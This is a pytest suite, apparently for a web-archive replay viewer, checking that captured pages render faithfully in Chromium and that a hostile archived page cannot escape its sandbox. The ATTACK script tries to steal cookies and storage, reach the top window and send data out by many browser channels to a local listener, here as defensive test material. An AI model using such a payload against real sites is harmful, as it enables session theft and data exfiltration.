"""Archived pages shown again in a real Chromium, and hostile ones that get nowhere."""

import contextlib
import socket
import threading
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from sijill.flows import evidence
from sijill.viewer.replay.addresses import Mode

from .conftest import Page, StoreSource, make_archive, replay_server

DRAWN = ("olivegrowers.example", "/statements/the-well-of-tell-rumman/")
JOINT = ("sahlandoc.example", "/2024/11/12/joint-statement-keep-the-records-of-zarqun/")
ARABIC = ("zarqunfamilies.example", "/bayanat/sijillat-al-qalaa/")


class Listener:
    """A socket of TCP and one of UDP at the same port; who reached them."""

    def __init__(self):
        self.reached = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(64)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        for wait in (self._tcp, self._udp):
            threading.Thread(target=wait, daemon=True).start()

    def _tcp(self):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.tcp.accept()
                with connection, contextlib.suppress(OSError):
                    connection.settimeout(2)
                    self.reached.append(("tcp", connection.recv(200)))

    def _udp(self):
        with contextlib.suppress(OSError):
            while True:
                self.reached.append(("udp", self.udp.recvfrom(200)[0]))

    def close(self):
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listener():
    made = Listener()
    yield made
    made.close()


class Viewer:
    """A page like the viewer's: a cookie, something in storage, an API that wants the cookie, the replay in a frame."""

    def __init__(self):
        self.asked = []
        self.frame = ""
        viewer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                viewer.asked.append((self.path, dict(self.headers)))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Set-Cookie", "sijill=secret; SameSite=Strict; Path=/")
                self.send_header("Content-Security-Policy", f"frame-src {viewer.replay}; script-src 'unsafe-inline'")
                self.end_headers()
                self.wfile.write(
                    b"<title>viewer</title><script>localStorage.setItem('key', 'kept'); window.touched = []</script>"
                    + f'<iframe sandbox="allow-scripts" src="{viewer.frame}"></iframe>'.encode()
                )

            def do_POST(self):
                self.do_GET()

            def log_message(self, *_):
                pass

        self.replay = ""
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.origin = f"http://127.0.0.1:{self._server.server_address[1]}"

    def close(self):
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def viewer():
    made = Viewer()
    yield made
    made.close()


@pytest.fixture(scope="module")
def shown(tmp_path_factory, demo_sites, capturing):
    """An archive of bundled pages, each captured by a browser: its source, and the captures by host."""
    archive = make_archive(tmp_path_factory.mktemp("shown") / "archive", demo_sites.pins)
    made = {
        host: evidence.archive_url(archive, demo_sites.url(host, path), browser=capturing).capture
        for host, path in (DRAWN, JOINT, ARABIC)
    }
    return StoreSource(archive), made


def opened(chromium, address):
    """The frame that shows an archived page, once it is still."""
    page = chromium.new_page()
    page.goto(address)
    page.wait_for_load_state("networkidle")
    return page, page.frames[1]


def broken_images(frame):
    return frame.evaluate(
        "() => [...document.images].filter(one => !(one.complete && one.naturalWidth > 0)).map(one => one.src)"
    )


def test_a_page_that_a_script_draws_shows_its_words_from_the_capture_alone(shown, chromium):
    source, made = shown
    capture = made[DRAWN[0]]
    with replay_server(source) as served:
        page, frame = opened(chromium, served.links(capture.id, capture.started, capture.final_url))
        frame.wait_for_selector("h1")
        assert "names no owner but" in frame.inner_text("main")
        assert frame.evaluate("() => document.images.length") >= 2
        assert broken_images(frame) == []
        assert frame.evaluate("() => getComputedStyle(document.body).margin") == "0px"
        # What the page believes of itself: its own address, and the time at which it was captured.
        assert frame.evaluate("() => document.URL") == capture.final_url
        shown_at = datetime.fromtimestamp(frame.evaluate("() => Date.now()") / 1000, UTC)
        assert abs((shown_at - capture.started).total_seconds()) < 100
        page.close()


@pytest.mark.parametrize("host", [JOINT[0], ARABIC[0]])
def test_text_images_frames_and_styles_are_those_of_the_capture(shown, chromium, host):
    source, made = shown
    capture = made[host]
    with replay_server(source) as served:
        page = chromium.new_page()
        outside, requests = [], []
        page.on("request", lambda one: requests.append(one.url))
        page.on("requestfailed", lambda one: outside.append((one.url, one.failure)))
        page.goto(served.links(capture.id, capture.started, capture.final_url))
        page.wait_for_load_state("networkidle")
        frame = page.frames[1]
        assert broken_images(frame) == []
        assert frame.evaluate("() => document.images.length") > 0
        assert all(url.startswith((served.origin, "data:")) for url in requests)
        text = next(one for one in capture.rendering.files if one.name == "text.txt")
        with text.body.open() as file:
            archived_words = file.read().decode().split()
        seen = set(frame.inner_text("body").split())
        assert len([word for word in archived_words if word in seen]) >= 0.95 * len(archived_words)
        for nested in page.frames[2:]:
            assert "2,906" in nested.inner_text("body")
            assert "As of 31 January 2025" in nested.inner_text("body"), "its script got its data"
        page.close()


@pytest.mark.parametrize("mode", [Mode.STILL, Mode.RENDERED])
def test_without_scripts(shown, chromium, mode):
    source, made = shown
    capture = made[DRAWN[0]]
    with replay_server(source) as served:
        page, frame = opened(chromium, served.links(capture.id, capture.started, capture.final_url, mode))
        drawn = "names no owner but" in frame.inner_text("main")
        assert drawn == (mode is Mode.RENDERED), "the document as it was built shows what the script had drawn"
        assert broken_images(frame) == []
        page.close()


def test_a_window_of_its_own_gets_a_frame_around_the_page(shown, chromium):
    source, made = shown
    capture = made[DRAWN[0]]
    with replay_server(source) as served:
        page = chromium.new_page()
        page.goto(served.links.lasting(capture.id, capture.started, capture.final_url))
        page.wait_for_load_state("networkidle")
        assert capture.final_url in page.inner_text("header")
        assert "names no owner but" in page.frames[1].inner_text("main")
        page.close()


ATTACK = """
const found = {};
const attempt = (name, action) => {
  try { found[name] = String(action()); } catch (error) { found[name] = "refused"; }
};
attempt("cookie", () => document.cookie || "refused");
attempt("storage", () => localStorage.getItem("key") ?? "refused");
attempt("parent", () => top.document.title);
attempt("top", () => top.localStorage.getItem("key"));
attempt("touch", () => { top.touched.push("x"); return "touched"; });
attempt("popup", () => open("LISTENER/popup") ? "opened" : "refused");
attempt("top navigation", () => { top.location.href = "LISTENER/top"; return "asked"; });
attempt("top address", () => top.location.href);
attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
attempt("worker", () => {
  const code = "fetch('LISTENER/worker').catch(() => 0); new WebSocket('ws' + 'LISTENER/worker'.slice(4))";
  return new Worker(URL.createObjectURL(new Blob([code])));
});
const requests = [];
for (const where of ["LISTENER", "VIEWER/api"]) {
  const options = {credentials: "include", mode: "no-cors"};
  requests.push(fetch(where + "/fetch", options).then(() => "sent, or led to the archive", () => "refused"));
  navigator.sendBeacon(where + "/beacon", "x");
  new Image().src = where + "/image";
  const style = document.createElement("style");
  style.textContent = `@import url(${where}/import); html { background: url(${where}/style) }`;
  document.head.append(style);
  document.body.insertAdjacentHTML("beforeend", `<form action="${where}/form" method="post"></form>
    <img src="${where}/markup"/><svg><image href="${where}/svg"/></svg><object data="${where}/object"></object>
    <video poster="${where}/poster"></video><a id="ping" ping="${where}/ping" href="#x">x</a>`);
  attempt("form", () => document.forms[0].submit());
  attempt("ping", () => document.getElementById("ping").click());
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon"]) {
    const link = document.createElement("link");
    link.rel = rel; link.as = "image"; link.href = where + "/" + rel; document.head.append(link);
  }
  for (const name of ["script", "iframe", "video", "embed"]) {
    const one = document.createElement(name);
    one.src = where + "/" + name; document.body.append(one);
  }
  attempt("socket", () => new WebSocket(where.replace("http", "ws") + "/socket"));
  attempt("events", () => new EventSource(where + "/events"));
  attempt("transport", () => new WebTransport(where.replace("http:", "https:") + "/transport"));
  const rules = document.createElement("script");
  rules.type = "speculationrules";
  rules.textContent = JSON.stringify({prefetch: [{urls: [where + "/rules"], eagerness: "immediate"}]});
  document.head.append(rules);
}
attempt("peer", () => {
  const port = "LISTENER".split(":")[2];
  const servers = [{urls: "stun:127.0.0.1:" + port},
    {urls: "turn:127.0.0.1:" + port + "?transport=tcp", username: "a", credential: "b"}];
  const peer = new RTCPeerConnection({iceServers: servers});
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  return "made";
});
Promise.all(requests).then((answers) => { window.outcome = {found, answers}; });
"""
HOSTILE = {
    "text/html": """<!DOCTYPE html><title>hostile</title><body><img src="/here.png">
        <iframe srcdoc="&lt;script>parent.postMessage(document.cookie, '*')&lt;/script>"></iframe>
        <script>%s</script>""",
    # XML is given back as it was sent, so that nothing of the browser is replaced in it.
    "text/xml": """<html xmlns="http://www.w3.org/1999/xhtml"><head><title>hostile</title></head>
        <body><img src="here.png"/></body><script><![CDATA[%s]]></script></html>""",
}


@pytest.mark.timeout(300)
@pytest.mark.parametrize("media_type", HOSTILE)
def test_a_hostile_page_gets_nowhere(archived, website, viewer, listener, chromium, media_type):
    there = f"http://127.0.0.1:{listener.port}"
    attack = ATTACK.replace("LISTENER", there).replace("VIEWER", viewer.origin)
    headers = (("Content-Type", media_type), ("Set-Cookie", "a=b"), ("Content-Security-Policy", "default-src *"))
    website.pages["/"] = Page((HOSTILE[media_type] % attack).encode(), headers)
    website.pages["/here.png"] = Page(PNG, (("Content-Type", "image/png"),))
    _, source, (capture,) = archived(website.url("/"))
    listener.reached.clear()
    website.close()
    with replay_server(source, viewer=viewer.origin) as served:
        viewer.replay = served.origin
        viewer.frame = served.links(capture.id, capture.started, capture.final_url)
        page = chromium.new_page()
        page.goto(viewer.origin + "/page")
        frame = page.frame(url=lambda url: url.startswith(served.origin))
        frame.wait_for_function("window.outcome")
        page.wait_for_timeout(1500)  # for what is sent later, if it were
        outcome = frame.evaluate("window.outcome")
        if media_type == "text/html":
            assert frame.evaluate("document.images[0].naturalWidth") == 1, "what is archived is shown"
        else:
            assert outcome["answers"] == ["refused", "refused"]
        for name in ("cookie", "storage", "parent", "top", "touch", "popup", "top navigation", "top address"):
            assert outcome["found"][name] == "refused", (name, outcome)
        assert page.url == viewer.origin + "/page"
        assert page.evaluate("window.touched") == []
        assert page.context.pages == [page]
        assert [one["value"] for one in page.context.cookies()] == ["secret"], "no cookie of the page was set"
        # Leaving for elsewhere: the last thing that a page can do.
        frame.evaluate(f"() => {{ setTimeout(() => {{ location.href = '{there}/left' }}) }}")
        page.wait_for_timeout(1000)
        page.close()
    assert [path for path, _ in viewer.asked if path not in ("/page", "/favicon.ico")] == []
    assert listener.reached == []


SECRET = b"<!DOCTYPE html><title>secret page</title><p>what was archived</p>"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001"
    "a5f645400000000049454e44ae426082"
)


def test_another_site_cannot_read_what_is_replayed(archived, website, chromium):
    website.pages["/"] = Page(SECRET)
    _, source, (capture,) = archived(website.url("/"))
    with replay_server(source) as served:
        address = served.links.lasting(capture.id, capture.started, capture.final_url)
        # A page in a sandbox has the origin of nobody, as a replayed page has.
        website.pages["/evil"] = Page(
            f"""<iframe sandbox="allow-scripts" srcdoc="<script>
            const say = (text) => parent.postMessage(text, '*');
            fetch('{address}').then((answer) => answer.text()).then(say, () => say('no'));
            </script>"></iframe><iframe id="shown" src="{address}"></iframe>
            <script>onmessage = (event) => {{ window.got = event.data }}</script>""".encode()
        )
        page = chromium.new_page()
        page.goto(website.url("/evil").replace("127.0.0.1", "localhost"))
        page.wait_for_function("window.got")
        assert page.evaluate("window.got") == "no"
        page.wait_for_load_state("networkidle")
        assert not any("what was archived" in frame.content() for frame in page.frames)
        page.close()


RICH = """<!DOCTYPE html><meta charset="utf-8"><title>rich</title>
<base href="/deep/">
<p id="words"></p><div id="markup"></div>
<script>
localStorage.setItem("seen", "1");
document.cookie = "a=b; path=/";
history.replaceState({}, "", "/other");
const put = (name, text) => { document.body.dataset[name] = text; };
fetch("/data.json").then((r) => r.json()).then((d) => put("root", d.word));
fetch("ORIGIN/data.json").then((r) => r.json()).then((d) => put("absolute", d.word));
fetch(new Request("data.json")).then((r) => r.json()).then((d) => put("relative", d.word));
fetch("/answer", {method: "POST", body: "q=1"}).then((r) => r.text()).then((t) => put("posted", t));
const xhr = new XMLHttpRequest();
xhr.open("GET", "/data.json"); xhr.setRequestHeader("X-Asked", "1");
xhr.onload = () => put("xhr", JSON.parse(xhr.responseText).word); xhr.send();
document.getElementById("markup").innerHTML = '<img id="made" src="/pixel.png"><a id="link" href="/next">n</a>';
const set = new Image(); set.id = "set"; set.src = "ORIGIN/pixel.png"; document.body.append(set);
put("stored", localStorage.getItem("seen") + document.cookie);
</script>
<script type="module">import { word } from "./module.js"; document.body.dataset.module = word;</script>
<img id="srcset" srcset="/pixel.png 1x, /other.png?a,b 3x">
<div id="styled" style="background-image: url('/pixel.png')"></div>
"""


def test_what_scripts_ask_for_by_their_own_means_is_led_to_the_capture(archived, website, capturing, chromium):
    json, script = (("Content-Type", "application/json"),), (("Content-Type", "text/javascript"),)
    website.pages |= {
        "/": Page(RICH.replace("ORIGIN", website.origin).encode()),
        "/data.json": Page(b'{"word": "found"}', json),
        "/deep/data.json": Page(b'{"word": "deep"}', json),
        "/deep/module.js": Page(b'export { word } from "./more.js";', script),
        "/deep/more.js": Page(b'export const word = "imported";', script),
        "/pixel.png": Page(PNG, (("Content-Type", "image/png"),)),
    }
    website.posted["/answer"] = Page(b"answered", (("Content-Type", "text/plain"),))
    _, source, (capture,) = archived(website.url("/"), browser=capturing)
    website.close()
    with replay_server(source) as served:
        page, frame = opened(chromium, served.links(capture.id, capture.started, capture.final_url))
        frame.wait_for_function("document.body.dataset.module && document.body.dataset.posted")
        assert frame.evaluate("({...document.body.dataset})") == {
            "root": "found",
            "absolute": "found",
            "relative": "deep",
            "posted": "answered",
            "xhr": "found",
            "module": "imported",
            "stored": "1a=b",
        }
        frame.wait_for_function("[...document.images].every((one) => one.naturalWidth > 0)")
        frame.click("#link")
        frame.wait_for_selector("text=Not in this capture")
        page.close()
